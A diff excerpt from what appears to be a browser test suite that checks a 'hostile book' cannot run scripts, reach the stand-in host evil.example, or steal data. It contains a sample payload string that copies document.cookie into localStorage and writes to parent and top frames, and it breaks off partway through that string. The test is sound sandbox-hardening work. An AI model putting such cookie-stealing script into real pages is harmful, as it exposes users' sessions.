@@ -74,8 +74,7 @@ test.describe('where nothing is left behind', () => {
   test('a hostile book can run, send, fetch and reach nothing', async ({ page, context, consoleGuard }) => {
     const [asked, ends]: [string[], (string | undefined)[]] = [[], []];
     context.on('request', (request) => request.url().includes('evil.example') && asked.push(request.url()));
-    const end = (request: Request) =>
-      request.url().includes('evil.example') && ends.push(request.failure()?.errorText);
+    const end = (request: Request) => request.url().includes('evil.example') && ends.push(request.failure()?.errorText);
     context.on('requestfailed', end);
     context.on('requestfinished', end);
     const theft = `top.stolen = 1; parent.stolen = 1; localStorage.setItem('stolen', document.cookie); indexedDB.open('stolen');
